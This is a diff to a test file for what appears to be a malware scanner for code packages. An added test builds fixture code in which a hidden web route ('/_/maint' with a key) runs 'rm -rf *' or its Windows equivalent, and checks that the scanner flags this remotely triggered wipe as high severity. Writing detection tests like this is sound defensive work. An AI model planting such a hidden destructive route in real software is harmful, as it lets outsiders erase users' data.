@@ -1347,6 +1347,21 @@ module.exports = {};
     expect(test.ids).not.toContain('wiper/wipe');
   });
 
+  it('a wipe command run from a web request handler is pulled from outside: high (express-api-sync style hidden routes)', () => {
+    const server = (handler: string) => `const { exec } = require('child_process');
+function reset(res) { exec(process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *', () => res.end('ok')); }
+${handler}
+`;
+    const middleware = scan({ 'index.js': server("module.exports = () => function mw(req, res, next) { if (req.path === '/_/maint' && req.query.key === 'k') return reset(res); next(); };") }, { main: 'index.js' });
+    expect(middleware.findings.find((f) => f.detector === 'wiper')?.evidence?.remoteTriggered).toBe(true);
+    expect(['high', 'critical']).toContain(middleware.level);
+    const route = scan({ 'index.js': server("module.exports = (app) => app.post('/_/maint', (req, res) => reset(res));") }, { main: 'index.js' });
+    expect(route.findings.find((f) => f.detector === 'wiper')?.evidence?.remoteTriggered).toBe(true);
+    // The same command from a function the user calls is no switch pulled from outside.
+    const called = scan({ 'index.js': server('module.exports = { reset };') }, { main: 'index.js' });
+    expect(called.findings.find((f) => f.detector === 'wiper')?.evidence?.remoteTriggered).toBe(false);
+  });
+
   it('every entry of the working folder deleted whole on a command from a socket is a wipe; emptying a build folder that way is not (xlsx-to-json-lh)', () => {
     const sync = (root: string) => `const fs = require('fs'); const path = require('path');
 function wipe(dir) {
@@ -1364,7 +1379,7 @@ module.exports = {};
     const r = scan({ 'index.js': sync('process.cwd()') }, { main: 'index.js' });
     expect(r.findings.find((f) => f.detector === 'wiper')?.data?.what).toMatch(/deletes every file under \$CWD .*deletes each entry of a folder whole/);
     // Started by a message on the socket: a kill switch someone else pulls.
-    expect(r.findings.find((f) => f.detector === 'wiper')?.data?.geo).toBe(', in a file that waits for a message on a connection to start it');
+    expect(r.findings.find((f) => f.detector === 'wiper')?.data?.geo).toBe(', in a file that waits for a request or a message from outside to start it');
     expect(['high', 'critical']).toContain(r.level);
     const build = scan({ 'index.js': sync("path.join(process.cwd(), 'dist')") }, { main: 'index.js' });
     expect(build.ids).not.toContain('wiper/wipe');
